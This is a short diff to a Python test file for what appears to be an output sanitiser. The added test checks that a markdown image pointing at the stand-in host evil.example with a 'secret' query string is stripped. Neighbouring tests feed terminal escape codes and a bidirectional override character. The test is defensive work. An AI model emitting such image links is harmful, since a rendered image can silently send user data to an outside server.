@@ -107,6 +107,10 @@ def test_a_citation_comes_as_its_sentence_is_over() -> None:
     assert (citation.marker, citation.quote, citation.verified) == ("[1]", "The tide fell by 3.5 m.", True)
 
 
+def test_a_picture_that_would_call_on_an_address_is_none() -> None:
+    assert "![" not in told("See ![x](https://evil.example/?q=secret) now.")
+
+
 def test_letters_that_nobody_sees_and_endless_answers_are_bounded() -> None:
     assert told("The tide \x1b[31mfell\u202e by 3.5 m.").startswith("The tide [31mfell by 3.5 m.")
     page, _ = write(["word " * 60_000])
